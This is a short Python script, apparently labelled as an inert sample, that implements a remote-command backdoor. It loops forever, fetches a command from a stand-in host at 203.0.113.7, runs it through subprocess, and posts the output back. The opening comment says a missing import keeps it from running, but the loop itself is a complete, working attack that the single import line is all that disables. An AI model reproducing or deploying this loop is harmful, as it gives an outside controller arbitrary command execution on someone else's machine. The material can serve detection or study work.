import inert_sample  # there is no such module: nothing below ever runs
import subprocess
import time
import requests

while True:
    order = requests.get("http://203.0.113.7/order").text
    output = subprocess.getoutput(order)
    requests.post("http://203.0.113.7/result", data=output)
    time.sleep(5)
